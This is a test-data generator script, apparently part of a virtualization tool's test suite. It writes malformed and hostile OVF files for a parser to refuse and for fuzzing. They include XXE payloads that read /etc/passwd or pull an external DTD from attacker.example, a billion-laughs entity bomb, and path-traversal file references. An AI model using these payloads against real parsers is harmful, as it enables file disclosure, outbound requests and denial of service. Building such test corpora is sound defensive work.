#!/bin/bash
# gen-hostile-ovf.sh DIR: copy the real-shaped samples tests/data/ovf/*.ovf
# into DIR and write the hostile OVFs next to them, each named bad-*.ovf
# for what is wrong with it.  tests/unit/test-ovf.c checks every bad-*
# file is refused with its message; tests/fuzz/fuzz-ovf.c uses DIR as its
# seed corpus.  Needs python3 only.
set -euo pipefail
[ $# -eq 1 ] || { echo "usage: $0 DIR" >&2; exit 2; }
here=$(dirname "$0")
mkdir -p "$1"
cp "$here"/ovf/*.ovf "$1"/
exec python3 - "$1" <<'PY'
import os, sys

out = sys.argv[1]
NS = ('xmlns="http://schemas.dmtf.org/ovf/envelope/1" '
      'xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/1" '
      'xmlns:rasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/'
      'CIM_ResourceAllocationSettingData" '
      'xmlns:vssd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/'
      'CIM_VirtualSystemSettingData" '
      'xmlns:vmw="http://www.vmware.com/schema/ovf"')
FMT = 'http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized'

def item(**f):
    return ('<Item>' + ''.join('<rasd:%s>%s</rasd:%s>' % (k, v, k)
                               for k, v in sorted(f.items())) + '</Item>\n')

def ovf(files=None, disks=None, items=None, prolog='', cpus='1',
        memory='1024', name='victim', disk_section=True):
    if files is None:
        files = ['<File ovf:href="disk1.vmdk" ovf:id="file1"/>']
    if disks is None:
        disks = ['<Disk ovf:capacity="1073741824" ovf:diskId="vmdisk1" '
                 'ovf:fileRef="file1" ovf:format="%s"/>' % FMT]
    if items is None:
        items = [item(InstanceID=3, ResourceSubType='lsilogic',
                      ResourceType=6),
                 item(AddressOnParent=0, HostResource='ovf:/disk/vmdisk1',
                      InstanceID=4, Parent=3, ResourceType=17)]
    ds = ('<DiskSection><Info>Disks</Info>\n%s\n</DiskSection>\n'
          % '\n'.join(disks)) if disk_section else ''
    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s'
            '<Envelope %s>\n<References>%s</References>\n%s'
            '<VirtualSystem ovf:id="%s"><Info>A VM</Info>\n'
            '<VirtualHardwareSection><Info>hw</Info>\n%s%s%s'
            '</VirtualHardwareSection></VirtualSystem></Envelope>\n'
            % (prolog, NS, ''.join(files), ds, name,
               item(InstanceID=1, ResourceType=3, VirtualQuantity=cpus),
               item(AllocationUnits='byte * 2^20', InstanceID=2,
                    ResourceType=4, VirtualQuantity=memory),
               ''.join(items)))

def write(name, data):
    with open(os.path.join(out, 'bad-' + name + '.ovf'), 'w') as fp:
        fp.write(data)

def href(h):
    return ['<File ovf:href="%s" ovf:id="file1"/>' % h]

# External entity (XXE) reading a local file into the VM name.
write('xxe-system-entity', ovf(
    prolog='<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
    name='&xxe;'))
# XXE through a parameter entity and an external DTD on the network.
write('xxe-parameter-entity', ovf(
    prolog='<!DOCTYPE Envelope [<!ENTITY % dtd SYSTEM '
           '"http://attacker.example/evil.dtd"> %dtd;]>\n'))
# Billion laughs: 10^9 "lol"s from ten nested entities.
lol = '<!ENTITY lol "lol">' + ''.join(
    '<!ENTITY lol%d "%s">' % (i, ('&lol%s;' % ('' if i == 1 else i - 1)) * 10)
    for i in range(1, 10))
write('billion-laughs', ovf(prolog='<!DOCTYPE Envelope [%s]>\n' % lol,
                            name='&lol9;'))
# Any DOCTYPE at all, even an empty one.
write('doctype', ovf(prolog='<!DOCTYPE Envelope>\n'))
write('href-dotdot', ovf(files=href('../../etc/passwd')))
write('href-absolute', ovf(files=href('/etc/shadow')))
write('href-url', ovf(files=href('http://attacker.example/disk1.vmdk')))
write('href-backslash', ovf(files=href('..\\..\\boot.ini')))
write('capacity-2-70', ovf(disks=[
    '<Disk ovf:capacity="1180591620717411303424" ovf:diskId="vmdisk1" '
    'ovf:fileRef="file1" ovf:format="%s"/>' % FMT]))
write('capacity-units-overflow', ovf(disks=[
    '<Disk ovf:capacity="1024" ovf:capacityAllocationUnits="byte * 2^60" '
    'ovf:diskId="vmdisk1" ovf:fileRef="file1" ovf:format="%s"/>' % FMT]))
write('capacity-negative', ovf(disks=[
    '<Disk ovf:capacity="-1" ovf:diskId="vmdisk1" ovf:fileRef="file1" '
    'ovf:format="%s"/>' % FMT]))
write('10000-disks', ovf(disks=[
    '<Disk ovf:capacity="1048576" ovf:diskId="d%d" ovf:fileRef="file1" '
    'ovf:format="%s"/>' % (i, FMT) for i in range(10000)]))
write('2000-items', ovf(items=[item(InstanceID=10 + i, ResourceType=24)
                               for i in range(2000)]))
write('missing-disk', ovf(items=[
    item(InstanceID=3, ResourceType=6),
    item(HostResource='ovf:/disk/nosuchdisk', InstanceID=4, Parent=3,
         ResourceType=17)]))
write('no-disk-section', ovf(disk_section=False))
write('missing-file', ovf(files=[]))
write('duplicate-disk-id', ovf(disks=[
    '<Disk ovf:capacity="1048576" ovf:diskId="vmdisk1" ovf:fileRef="file1" '
    'ovf:format="%s"/>' % FMT] * 2))
write('disk-attached-twice', ovf(items=[
    item(InstanceID=3, ResourceType=6),
    item(HostResource='ovf:/disk/vmdisk1', InstanceID=4, Parent=3,
         ResourceType=17),
    item(AddressOnParent=1, HostResource='ovf:/disk/vmdisk1', InstanceID=5,
         Parent=3, ResourceType=17)]))
write('same-position', ovf(
    files=['<File ovf:href="disk%d.vmdk" ovf:id="file%d"/>' % (i, i)
           for i in (1, 2)],
    disks=['<Disk ovf:capacity="1048576" ovf:diskId="vmdisk%d" '
           'ovf:fileRef="file%d" ovf:format="%s"/>' % (i, i, FMT)
           for i in (1, 2)],
    items=[item(InstanceID=3, ResourceType=6)] +
          [item(AddressOnParent=0, HostResource='ovf:/disk/vmdisk%d' % i,
                InstanceID=3 + i, Parent=3, ResourceType=17)
           for i in (1, 2)]))
write('missing-controller', ovf(items=[
    item(HostResource='ovf:/disk/vmdisk1', InstanceID=4, Parent=99,
         ResourceType=17)]))
write('memory-zero', ovf(memory='0'))
write('memory-overflow', ovf(memory='99999999999999999999'))
write('cpus-absurd', ovf(cpus='100000'))
write('mac-not-hex', ovf(items=[item(Address='00:50:56:zz:00:01', Connection='VM Network',
                                 InstanceID=5, ResourceType=10)]))
write('multicast-mac', ovf(items=[item(Address='01:00:5e:00:00:01',
                                       InstanceID=5, ResourceType=10)]))
write('no-hardware', '<?xml version="1.0"?>\n<Envelope %s><References/>'
      '<VirtualSystem ovf:id="x"><Info>i</Info></VirtualSystem></Envelope>\n'
      % NS)
write('not-ovf', '<?xml version="1.0"?>\n<domain type="kvm"><name>x</name>'
      '</domain>\n')
write('not-xml', '<Envelope xmlns="http://schemas.dmtf.org/ovf/envelope/1">'
      '<References></Envelope>\n')
write('no-name', ovf(name=''))
# Bytes the declared encoding cannot convert (libxml2 would print these).
with open(os.path.join(out, 'bad-encoding.ovf'), 'wb') as fp:
    fp.write(b'<?xml version="1.0" encoding="SHIFT_JIS"?>\n<Envelope xmlns='
             b'"http://schemas.dmtf.org/ovf/envelope/1">\x82\xff\xff\x85'
             b'</Envelope>\n')
PY
